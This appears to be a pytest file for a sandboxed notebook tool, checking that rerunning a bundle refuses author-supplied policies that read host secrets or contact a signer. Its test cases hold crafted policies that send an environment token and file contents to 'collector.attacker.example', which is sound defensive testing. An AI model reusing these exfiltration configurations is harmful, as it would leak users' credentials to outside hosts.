"""A rerun under the policy a bundle discloses never reads this host's secrets or keys nor contacts its signer: the
bundle's author chose where they would go. Refused in one line naming the section; --policy is the way to give one."""

from __future__ import annotations

import hashlib
import json
import os
import socket
import threading
import zipfile
from pathlib import Path

import pytest

from tkbox_nb.core.errors import TkboxError
from tkbox_nb.box.notebook_box import HostMagics, NotebookBox
from tkbox_nb.policy import Policy
from tkbox_nb.audit.replay import _from_bundle, rerun

SAMPLE = Path(__file__).resolve().parent.parent / "notebooks" / "samples" / "quickstart.tkb"
VALUE = "ghp_THE_RERUNNING_USERS_REAL_TOKEN_0123"


def _with_policy(tmp: Path, source: str) -> Path:
    """quickstart.tkb with its starting policy replaced by `source` (as a bundle's author may write one)."""
    z = zipfile.ZipFile(SAMPLE)
    files = {i.filename: z.read(i) for i in z.infolist()}
    h = hashlib.sha256(source.encode()).hexdigest()
    files[f"box/policies/{h}.toml"] = source.encode()
    box = json.loads(files["box/manifest.json"])
    box["policy"]["hash"] = "sha256:" + h
    box["policies"].append("sha256:" + h)
    files["box/manifest.json"] = json.dumps(box).encode()
    m = json.loads(files["manifest.json"])
    m["files"] = {n: hashlib.sha256(b).hexdigest() for n, b in files.items() if n != "manifest.json"}
    files["manifest.json"] = json.dumps(m, indent=1).encode()
    out = tmp / "crafted.tkb"
    with zipfile.ZipFile(out, "w") as w:
        for n, b in files.items():
            w.writestr(n, b)
    return out


class Listener:
    """A TCP listener on 127.0.0.1 that records whether anyone connected."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(4)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connected = False
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connected = True
            conn.close()

    def close(self):
        self.stop.set()
        self.thread.join(5)
        self.sock.close()


def _rerun_refused(bundle: Path, tmp: Path) -> str:
    """rerun(bundle) in a thread (a FIFO opened for reading would block it): the one-line refusal it raises."""
    got: list = []

    def go():
        try:
            rerun(bundle, tmp / "out.tkb", home=tmp / "home")
            got.append(None)
        except BaseException as e:  # noqa: BLE001 - the test reports whatever it was
            got.append(e)
    t = threading.Thread(target=go, daemon=True)
    t.start()
    t.join(60)
    assert got, "the rerun blocked: it opened a file the bundle's policy named"
    assert isinstance(got[0], TkboxError), got[0]
    text = str(got[0])
    assert "\n" not in text and "--policy" in text
    return text


def test_a_bundle_s_policy_never_reads_host_secrets_keys_or_signer_token(tmp_path, monkeypatch):
    monkeypatch.setenv("TKBOX_TEST_GH_TOKEN", VALUE)
    fifo = tmp_path / "token.fifo"
    os.mkfifo(fifo)
    listener = Listener()
    try:
        cases = {
            "[secrets.GH]": '''[egress]\nallow = ["collector.attacker.example:443"]\n[secrets.GH]
source = "env:TKBOX_TEST_GH_TOKEN"\nhosts = ["collector.attacker.example"]\nheader = "Authorization"\n''',
            "[secrets.F]": f'''[secrets.F]\nsource = "file:{fifo}"\nhosts = ["collector.attacker.example"]
header = "X-Key"\n''',
            "[models.openai] key": f'''[models]\nallow = ["openai:*"]\n[models.openai]
base_url = "https://127.0.0.1:{listener.port}"\nkey = "env:TKBOX_TEST_GH_TOKEN"\n''',
            "[signer]": f'''[exec]\ncells = true\n[signer]\nurl = "https://127.0.0.1:{listener.port}"
token_file = "{fifo}"\nca = "{fifo}"\nstore_dsn_file = "{fifo}"\n''',
        }
        for section, source in cases.items():
            Policy.from_toml(source)  # each is a policy a user may write for themselves
            text = _rerun_refused(_with_policy(tmp_path, source), tmp_path)
            assert section in text and VALUE not in text, text
        assert not listener.connected, "the rerun connected to the url the bundle's policy named"
    finally:
        listener.close()
    assert not (tmp_path / "out.tkb").exists()


def test_a_prompt_secret_or_no_secret_passes_the_check():
    assert Policy.default().host_reads() is None
    _from_bundle(Policy.from_toml('[secrets.P]\nsource = "prompt"\nhosts = ["example.org"]\nheader = "X-Key"\n'), "p")


def test_a_box_policy_the_rerun_makes_again_is_held_to_the_same_rule(tmp_path, monkeypatch):
    """A `%%box_policy` body (or `%box_policy PATH`) the run set mid-run comes from the bundle too."""
    monkeypatch.setenv("TKBOX_TEST_GH_TOKEN", VALUE)
    nb = NotebookBox(home=tmp_path / "home")
    nb.policy_guard = lambda p: _from_bundle(p, "the run's %box_policy")
    magics = HostMagics(nb, lambda prompt: "")
    body = '[secrets.GH]\nsource = "env:TKBOX_TEST_GH_TOKEN"\nhosts = ["collector.attacker.example"]\nheader = "A"\n'
    with pytest.raises(TkboxError, match=r"\[secrets\.GH\]") as e:
        magics.run("box_policy", "", body)
    assert VALUE not in str(e.value) and nb.policy.host_reads() is None
    nb.stop()


def test_a_replayed_box_policy_path_the_bundle_does_not_disclose_is_one_line_and_opens_nothing(tmp_path):
    """`%box_policy PATH` made again by a rerun: PATH (here a FIFO, which an open for reading would block on) is
    never opened; with no policy disclosed for the event, the rerun stops in one line."""
    from tkbox_nb.audit.replay import _rerun_magics
    fifo = tmp_path / "policy.fifo"
    os.mkfifo(fifo)
    nb = NotebookBox(home=tmp_path / "home")
    magics = _rerun_magics(nb)
    got: list = []

    def go():
        try:
            magics.run("box_policy", str(fifo))
        except BaseException as e:  # noqa: BLE001 - the test reports whatever it was
            got.append(e)
    t = threading.Thread(target=go, daemon=True)
    t.start()
    t.join(20)
    assert got and isinstance(got[0], TkboxError), got
    assert "\n" not in str(got[0]) and "reads no host file" in str(got[0]) and nb.policy.hash == Policy.default().hash
    magics.disclosed = "[exec]\ncells = false\n"
    magics.run("box_policy", str(fifo))
    assert nb.policy.source == magics.disclosed and nb.box is None
